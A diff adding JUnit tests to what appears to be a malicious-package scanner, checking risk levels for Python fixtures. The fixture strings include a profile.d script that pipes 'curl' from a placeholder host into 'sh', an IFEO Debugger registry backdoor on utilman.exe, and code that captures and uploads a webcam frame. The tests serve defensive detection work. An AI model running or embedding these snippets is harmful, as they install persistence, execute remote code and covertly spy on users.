@@ -411,6 +411,45 @@ class ContentRuleTest {
   }
 
   @Test
+  void systemWideStartUpFilesAndDebuggerKeysArePersistence() {
+    String profileD =
+        "import pathlib\np = pathlib.Path('/etc/profile.d') / 'zz-fix.sh'\n"
+            + "p.write_text('curl -fsS https://a.example/p | sh\\n')\n";
+    String ifeo =
+        "import subprocess\nsubprocess.run(['reg', 'add', r'HKLM\\SOFTWARE\\Microsoft\\Windows NT"
+            + "\\CurrentVersion\\Image File Execution Options\\utilman.exe', '/v', 'Debugger',"
+            + " '/d', PAYLOAD, '/f'])\n";
+    String readOnly =
+        "import pathlib\nlocale = pathlib.Path('/etc/profile.d/locale.sh').read_text()\n";
+
+    assertThat(levelIn(profileD, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(ifeo, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    // naming the directory is worth a look, as /etc/cron.d is; only a download-and-run in it is
+    // more
+    assertThat(worst(check(wheelWith("pkg/env.py", readOnly)))).isEqualTo(RiskLevel.MEDIUM);
+  }
+
+  @Test
+  void theWebcamIsASecretAndNotAColourLibrarysBusiness() {
+    String cam =
+        "import cv2, requests\ncam = cv2.VideoCapture(0)\nok, frame = cam.read()\n"
+            + "requests.post(URL, files={'f': cv2.imencode('.jpg', frame)[1].tobytes()})\n";
+    String video = "import cv2\nclip = cv2.VideoCapture('talk.mp4')\nframes = clip.read()\n";
+
+    assertThat(levelIn(cam, "webcam-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(
+            only(
+                    checkClaiming("Colour conversions", wheelWith("pkg/__init__.py", cam)),
+                    "capability-off-purpose")
+                .level())
+        .isEqualTo(RiskLevel.HIGH);
+    assertThat(checkClaiming("Colour calibration for webcams", wheelWith("pkg/__init__.py", cam)))
+        .noneMatch(f -> f.evidence().values().get("pattern").equals("capability-off-purpose"));
+    // a video file read is not the camera
+    assertThat(check(wheelWith("pkg/video.py", video))).isEmpty();
+  }
+
+  @Test
   void aCrontabReplacedThroughStandardInputIsPersistence() {
     String cron =
         "import subprocess, sys\n"
